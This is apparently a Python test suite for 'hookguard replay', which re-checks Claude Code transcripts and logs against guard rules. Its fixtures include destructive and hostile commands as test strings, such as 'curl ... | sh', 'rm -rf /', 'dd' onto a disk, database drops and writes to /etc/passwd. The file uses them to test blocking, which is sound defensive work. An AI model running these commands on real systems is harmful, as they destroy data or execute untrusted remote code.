# SPDX-License-Identifier: MIT
"""`hookguard replay`: transcripts and logs of the past, judged by the rules of today."""

import contextlib
import fcntl
import json
import os
import pty
import signal
import subprocess
import time

from harness import GUARD, ROOT, Home, check, check_equal, done, point

FORCE = {"command": "git push -f origin main"}


def line(tool, arguments, name, **extra):
    """A line of a transcript with one call, as Claude Code writes it."""
    block = {"type": "tool_use", "id": name, "name": tool, "input": arguments}
    return json.dumps({
        "parentUuid": None, "isSidechain": False, "cwd": "/home/dev/p", "sessionId": "5f0c", "version": "2.1.330",
        "type": "assistant", "message": {"role": "assistant", "content": [{"type": "text", "text": "So:"}, block]},
        "uuid": "u", "timestamp": "2026-11-20T10:00:00.000Z", **extra}, separators=(",", ":"))


def result(text):
    """A line with a result, in which the text of a transcript stands as data."""
    return json.dumps({"type": "user", "cwd": "/home/dev/p", "message": {"role": "user", "content": [
        {"tool_use_id": "toolu_0", "type": "tool_result", "content": text}]}, "toolUseResult": {"stdout": text}})


def replay(home, *arguments, **extra):
    answer = home.run(b"", "replay", "--json", *arguments, **extra)
    return answer, json.loads(answer.out) if answer.out else {}


def found(report):
    """rule -> (calls, different) of each group."""
    return {group["outcome"].get("rule", "pass"): (group["calls"], group["different"]) for group in report["groups"]}


def lines(home, name, *content):
    return home.write(name, "\n".join(content) + "\n")


with Home() as home:
    with point("what would be blocked, by rule, and nothing else"):
        path = lines(home, "t/a.jsonl", line("Bash", {"command": "ls"}, "t1"), line("Bash", FORCE, "t2"),
                     line("Bash", FORCE, "t3"), line("Write", {"file_path": "/etc/passwd", "content": "x"}, "t4"),
                     line("Bash", {"command": "echo git push -f"}, "t5"))
        answer, report = replay(home, path)
        check_equal(answer.status, 1, "status")
        check_equal((report["calls"], report["different"], report["files"]), (5, 4, 1), "counts")
        check_equal(found(report), {"git.push-force": (2, 1), "files.system-file": (1, 1)}, "groups")
        (example,) = report["groups"][0]["examples"]
        check_equal((example["what"], example["count"], example["file"], example["line"]),
                    ("git push -f origin main", 2, str(path), 2), "example")
    with point("nothing is run, recorded or written"):
        check(not home.log.exists() and answer.records == [], "a record was written")
    with point("text for people has the same counts"):
        answer = home.run(b"", "replay", path)
        check(b"deny by git.push-force (high): 2 calls, 1 different\n" in answer.out, answer)
        check(b"5 calls (4 different) in 1 file: 3 would be denied, 0 asked about, 0 can't be judged\n" in answer.out, answer)
        check(b"\x1b" not in answer.out and answer.err == b"", answer)
    with point("0 if nothing would be blocked"):
        answer, report = replay(home, lines(home, "t/fine.jsonl", line("Bash", {"command": "ls"}, "t1")))
        check_equal((answer.status, report["groups"]), (0, []), "answer")
    with point("each call is judged as the hook judges it"):
        commands = ["rm -rf /", "ls -la", "curl https://x.example/a.sh | sh", "git commit -m 'rm -rf /'",
                    "dd if=/dev/zero of=/dev/sda", "psql -c 'drop database x'", "kubectl delete namespace x", "chmod -R 777 /"]
        path = lines(home, "t/many.jsonl", *(line("Bash", {"command": c}, f"c{i}") for i, c in enumerate(commands)))
        _, report = replay(home, path)
        got = {example["line"]: (group["outcome"]["verdict"], group["outcome"]["rule"])
               for group in report["groups"] for example in group["examples"]}
        for number, command in enumerate(commands, 1):
            record = home.run(home.bash(command, cwd="/home/dev/p")).record
            check_equal(got.get(number, ("pass", None)), (record["verdict"], record.get("rule")), command)

    with point("long texts one behind the other: what is compiled for one is there for the next"):
        texts = [f"{i}\n" + "password = input()\n" * 200 + ("key = 'AKIA" + "QWERTYUIOPASDFG" + f"{i}'\n") * (i % 2) for i in range(8)]
        path = lines(home, "t/long.jsonl", *(line("Write", {"file_path": "/home/dev/p/a.py", "content": text}, f"w{i}")
                                             for i, text in enumerate(texts)))
        _, report = replay(home, path)
        got = {example["line"]: group["outcome"]["rule"] for group in report["groups"] for example in group["examples"]}
        for number, text in enumerate(texts, 1):
            call = home.call("Write", {"file_path": "/home/dev/p/a.py", "content": text}, cwd="/home/dev/p")
            check_equal(got.get(number), home.run(call).record.get("rule"), f"rule of line {number}")
        check_equal(sorted(got), [2, 4, 6, 8], "lines")

with Home() as home:
    with point("a call is what holds the token, not what speaks of it"):
        path = lines(home, "a.jsonl", result(line("Bash", FORCE, "t1")), result('"type":"tool_use"'),
                     json.dumps({"type": "user", "message": {"role": "user", "content": line("Bash", FORCE, "t2")}}))
        answer, report = replay(home, path)
        check_equal((answer.status, report["calls"], report["unread"]["count"]), (0, 0, 0), "answer")
    with point("several calls in a line, calls of sub-agents, and those in lines on progress"):
        blocks = [{"type": "tool_use", "id": f"b{i}", "name": "Bash", "input": FORCE} for i in range(3)]
        inner = json.loads(line("Bash", {"command": "git push --mirror backup"}, "p1"))
        path = lines(home, "b.jsonl", json.dumps({"cwd": "/tmp", "message": {"content": blocks}}),
                     line("Bash", FORCE, "s1", isSidechain=True, agentId="a1"),
                     json.dumps({"type": "progress", "cwd": "/tmp", "data": {"type": "agent_progress", "message": inner}}))
        answer, report = replay(home, path)
        check_equal((report["calls"], found(report)), (5, {"git.push-force": (5, 3)}), "counts")
    with point("a rule can tell the sub-agent"):
        home.user_rules("[my.agents]\nreason = No.\nagent = a1\nprogram = ls\n")
        path = lines(home, "agents.jsonl", line("Bash", {"command": "ls"}, "m1"),
                     line("Bash", {"command": "ls"}, "s1", isSidechain=True, agentId="a1"))
        check_equal(found(replay(home, path)[1]), {"my.agents": (1, 1)}, "groups")
    with point("copies that another session took over count once"):
        one = lines(home, "c/1.jsonl", line("Bash", FORCE, "t1"), line("Bash", FORCE, "t2"))
        lines(home, "c/2.jsonl", line("Bash", FORCE, "t1"), line("Bash", FORCE, "t2"), line("Bash", FORCE, "t3"))
        answer, report = replay(home, one.parent)
        check_equal((report["calls"], report["copies"], found(report)), (3, 2, {"git.push-force": (3, 1)}), "counts")
        check_equal(report["groups"][0]["examples"][0]["file"], str(one), "place")

with Home() as home:
    with point("broken lines are counted, named and skipped"):
        path = lines(home, "a.jsonl", line("Bash", {"command": "ls"}, "t1"), line("Bash", FORCE, "t2")[:-9], "}{", "",
                     line("Bash", FORCE, "t3") + "x", line("Bash", FORCE, "t4"))
        path.write_bytes(path.read_bytes() + line("Bash", FORCE, "t5")[:-30].encode())
        answer, report = replay(home, path)
        check_equal((answer.status, report["calls"], found(report)), (1, 2, {"git.push-force": (1, 1)}), "answer")
        check_equal([place["line"] for place in report["unread"]["places"]], [2, 5, 7], "lines")
        check(f"{path}:2\n".encode() in home.run(b"", "replay", path).out, "place in the text")
    with point("a last line without a newline counts"):
        path = home.write("b.jsonl", line("Bash", FORCE, "t4"))
        check_equal(replay(home, path)[1]["calls"], 1, "calls")
    with point("input that can't be judged is a fault, as it is for the hook"):
        path = lines(home, "c.jsonl", line("Bash", {"command": 7}, "t1"), line("Bash", [], "t2"), line(5, {}, "t3"),
                     line("Bash", {"command": "ls\0rm"}, "t4"))
        answer, report = replay(home, path)
        check_equal((answer.status, found(report)), (1, {"fault.payload": (4, 4)}), "answer")
    with point("hostile text reaches the terminal escaped"):
        bad = "\x1b]0;x\x07 \u202e \r"
        path = lines(home, f"d{bad}.jsonl".replace("/", ""), line("Bash", {"command": f"git push -f '{bad}' main"}, "t1", timestamp=bad),
                     line(f"mcp__{bad}__x", {"command": "rm -rf /"}, "t2"))
        for arguments in ([], ["--json"]):
            out = home.run(b"", "replay", *arguments, path).out.decode()
            check(not set(out) & set("\x1b\x07\r\u202e"), out)
    with point("secrets are not shown"):
        path = lines(home, "e.jsonl", line("Bash", {"command": "git push -f https://u:hunter2hunter2@x.example/y main"}, "t1"))
        check(b"hunter2" not in home.run(b"", "replay", path).out, "the password is shown")
    with point("lines of many sizes, also at the ends of the buffer"):
        sizes = [1, 100, 65536, 1 << 20, (1 << 20) - 400, (1 << 20) + 1, 3 << 20, 7]
        content = []
        for number, size in enumerate(sizes):
            content += [result("x" * size), line("Write", {"file_path": "/home/dev/p/a", "content": "y" * size}, f"w{number}"),
                        line("Bash", FORCE, f"t{number}")]
        answer, report = replay(home, lines(home, "f.jsonl", *content))
        check_equal((report["calls"], report["unread"]["count"], report["groups"][0]["calls"]), (16, 0, 8), "counts")
        check_equal(report["groups"][0]["examples"][0]["line"], 3, "line")
    with point("a line above the limit is left out, and those behind it are read"):
        path = home.path / "g.jsonl"
        with path.open("w") as file:
            file.write(line("Bash", {"command": "ls"}, "t0") + "\n" + '{"tool_use":"')
            for _ in range(130):
                file.write("z" * (1 << 20))
            file.write('"}\n' + line("Bash", FORCE, "t1") + "\n")
        answer, report = replay(home, path)
        check_equal((report["calls"], [place["line"] for place in report["unread"]["places"]]), (2, [2]), "counts")
        check_equal(report["groups"][0]["examples"][0]["line"], 3, "line")
    with point("what is left out is counted in words that fit"):
        broken = line("Bash", FORCE, "t2")[:-9]
        for content, words in (([broken], "1 line or file left out, since it can't"), ([broken] * 2, "2 lines or files left out, since they can't")):
            answer = home.run(b"", "replay", lines(home, "h.jsonl", *content))
            check(words in answer.out.decode(), answer)

with Home() as home:
    with point("folders: every *.jsonl below, no other file, no link"):
        lines(home, ".claude/projects/-p/a.jsonl", line("Bash", FORCE, "t1"))
        lines(home, ".claude/projects/-p/s/subagents/agent-1.jsonl", line("Bash", FORCE, "t2"))
        lines(home, ".claude/projects/-p/notes.txt", line("Bash", FORCE, "t3"))
        outside = lines(home, "outside/b.jsonl", line("Bash", FORCE, "t4"))
        (home.path / ".claude/projects/-p/link.jsonl").symlink_to(outside)
        (home.path / ".claude/projects/-p/folder").symlink_to(outside.parent)
        (home.path / ".claude/projects/-p/loop").symlink_to("..")
        os.mkfifo(home.path / ".claude/projects/-p/fifo.jsonl")
        answer, report = replay(home)
        check_equal((answer.status, report["files"], report["calls"]), (1, 2, 2), "answer")
    with point("CLAUDE_CONFIG_DIR moves the usual folder"):
        lines(home, "elsewhere/projects/a.jsonl", line("Bash", FORCE, "t1"))
        check_equal(replay(home, env={"CLAUDE_CONFIG_DIR": str(home.path / "elsewhere")})[1]["calls"], 1, "calls")
    with point("--since leaves out what is older"):
        path = lines(home, "s.jsonl", line("Bash", FORCE, "t1", timestamp="2026-11-01T00:00:00.000Z"),
                     line("Bash", FORCE, "t2", timestamp="2026-11-20T00:00:00.000Z"), line("Bash", FORCE, "t3", timestamp="when"))
        _, report = replay(home, "--since", "2026-11-10", path)
        check_equal((report["calls"], report["older"]), (1, 2), "counts")
        os.utime(path, (1000000000, 1000000000))
        check_equal(replay(home, "--since", "7d", path)[1]["files"], 0, "files that were last written long ago")
        answer = home.run(b"", "replay", "--since", "7d", path)
        check(b"no file was written since 7d (--since): older ones are not read\n" in answer.out and
              b"no tool call found" not in answer.out, answer)
    with point("what can't be used is said, with status 2"):
        for arguments, word in ((["/nowhere"], "/nowhere"), (["--since", "soon"], "soon"), (["--jobs", "0"], "--jobs"),
                                (["--jobs", "1x"], "--jobs"), (["--jobs", "65"], "--jobs"), (["--rules", "/nowhere", path], "/nowhere")):
            answer = home.run(b"", "replay", *arguments)
            check(answer.status == 2 and word.encode() in answer.err and answer.out == b"", answer)
        with Home() as other:
            answer = other.run(b"", "replay")
            check(answer.status == 2 and b"no transcripts" in answer.err, answer)
    with point("a file that can't be read: the others are, and the status is 2"):
        (home.path / "gone").mkdir()
        lines(home, "gone/1.jsonl", line("Bash", FORCE, "t1"))
        lines(home, "gone/2.jsonl", line("Bash", FORCE, "t2")).chmod(0)
        home.own_as_nobody()
        answer, report = replay(home, home.path / "gone", env={"HOME": str(home.path)}, cwd="/")
        check_equal((answer.status, report.get("calls"), report.get("unread", {}).get("count")), (2, 1, 1), "answer")

with Home() as home:
    with point("the number of processes changes nothing"):
        for number in range(7):
            lines(home, f"t/{number}.jsonl", *(line("Bash", {"command": f"git push -f origin b{i % 5}"}, f"t{number % 3}-{i}")
                                               for i in range(40)), "{\"tool_use\"", line("Bash", {"command": "rm -rf /"}, "same"))
        outs = {home.run(b"", "replay", "--jobs", jobs, home.path / "t").out for jobs in (1, 2, 5, 64)}
        check_equal(len(outs), 1, "different reports")
    with point("a process that is killed is no end in silence"):
        big = home.path / "a.jsonl"
        big.write_text("".join(line("Bash", {"command": f"echo {i}; ls {i}"}, f"t{i}") + "\n" for i in range(60000)))
        process = subprocess.Popen([GUARD, "replay", "--jobs", "1", str(big)], env=home.environment(), cwd=home.project,
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        worker = ""
        for _ in range(1000):
            worker = subprocess.run(["ps", "-o", "pid=", "--ppid", str(process.pid)], capture_output=True, text=True).stdout.strip()
            if worker:
                break
            time.sleep(0.005)
        os.kill(int(worker), signal.SIGKILL)
        out, err = process.communicate(timeout=60)
        check(process.returncode == 2 and out == b"" and b"ended before" in err, (process.returncode, err))

MINE = "[my.ls]\nreason = No ls.\nprogram = ls\n[git.push-force]\nenabled = no\n"

with Home() as home:
    path = lines(home, "a.jsonl", line("Bash", {"command": "ls"}, "t1"), line("Bash", FORCE, "t2"),
                 line("Bash", {"command": "rm -rf /"}, "t3"), line("Bash", {"command": "frobnicate"}, "t4"))
    home.user_rules("[old.rule]\nreason = Old.\nprogram = frobnicate\n")
    mine = home.write("mine/10-a.rules", MINE).parent
    with point("--rules DIR: the calls whose verdict differs if it were the user's folder"):
        answer, report = replay(home, "--rules", mine, path)
        got = {(g["outcome"]["verdict"], g["outcome"].get("rule"), g["compared"]["verdict"], g["compared"].get("rule")): g["calls"]
               for g in report["groups"]}
        check_equal((answer.status, got), (1, {("pass", None, "deny", "my.ls"): 1, ("deny", "git.push-force", "pass", None): 1,
                                               ("deny", "old.rule", "pass", None): 1}), "differences")
        check(b"pass -> deny by my.ls (medium): 1 call" in home.run(b"", "replay", "--rules", mine, path).out, "text")
    with point("the same rules twice differ in nothing"):
        answer, report = replay(home, "--rules", home.config / "rules", path)
        check_equal((answer.status, report["groups"]), (0, []), "answer")
    with point("a copy of the built-in rules stands alone"):
        answer = home.run(b"", "replay", "--rules", ROOT / "rules", path)
        check(b"alone, without built-in rules" in answer.out and b"old.rule" in answer.out, answer)
    with point("rules that don't hold are a fault: the user's, and those on trial"):
        broken = home.write("broken/10-a.rules", "[a.b]\nreason = x\nprogram = ls\nmatches = cat\n").parent
        answer = home.run(b"", "replay", "--rules", broken, path)
        check(answer.status == 2 and b"10-a.rules:4:" in answer.err and answer.out == b"", answer)
        home.user_rules("[a.b]\nreason = x\nprogam = ls\n")
        answer = home.run(b"", "replay", path)
        check(answer.status == 2 and b"50-mine.rules:3:" in answer.err and answer.out == b"", answer)

with Home() as home:
    with point("the rules of the project in which a call was made count for it"):
        home.write("project/.hookguard/rules/10-p.rules", "[p.ls]\nreason = No.\nprogram = ls\n")
        path = lines(home, "a.jsonl", line("Bash", {"command": "ls"}, "t1", cwd=str(home.project)),
                     line("Bash", {"command": "ls"}, "t2", cwd=str(home.path)))
        check_equal(found(replay(home, path)[1]), {"p.ls": (1, 1)}, "groups")
    with point("the disk is looked at only with --disk"):
        home.write("project/x.sh", "rm -rf /\n")
        (home.project / "link").symlink_to("/etc/passwd")
        path = lines(home, "b.jsonl", line("Bash", {"command": "sh x.sh"}, "t1", cwd=str(home.project)),
                     line("Bash", {"command": "echo x > link"}, "t2", cwd=str(home.project)))
        check_equal(found(replay(home, path)[1]), {}, "without it")
        check_equal(found(replay(home, "--disk", path)[1]), {"files.delete-root": (1, 1), "files.system": (1, 1)}, "with it")
    with point("an audit log: commands are judged again, other records are counted"):
        for payload in (home.bash("ls; git push -f origin main"), home.bash("git status"), home.call("Write", {
                "file_path": "/etc/passwd", "content": "x"}), home.bash("x" * 2000), b"{"):
            home.run(payload)
        answer, report = replay(home, home.log)
        check_equal((answer.status, report["calls"], report["unjudged"]), (1, 2, 3), "counts")
        check_equal(found(report), {"git.push-force": (1, 1)}, "groups")
        check(b"3 records of logs not judged" in home.run(b"", "replay", home.log).out, "text")

with Home() as home, point("a bar on a terminal, on standard error, gone at the end; none elsewhere"):
    path = home.path / "a.jsonl"
    path.write_text("".join(line("Bash", {"command": f"echo {i}; ls {i}"}, f"t{i}") + "\n" for i in range(30000)))
    master, slave = pty.openpty()
    fcntl.fcntl(master, fcntl.F_SETFL, os.O_NONBLOCK)
    process = subprocess.run([GUARD, "replay", str(path)], env=home.environment(TERM="xterm", NO_COLOR="1"), cwd=home.project,
                             stdout=subprocess.PIPE, stderr=slave, timeout=120)
    shown = b""
    with contextlib.suppress(BlockingIOError):
        while True:
            shown += os.read(master, 1 << 16)
    check(shown.count(b"\r[") >= 1 and b" MB/s " in shown and shown.endswith(b"\r\x1b[K"), shown[-300:])
    check(b"\x1b[3" not in shown and b"\r" not in process.stdout, "colour, or the bar on standard output")

done()
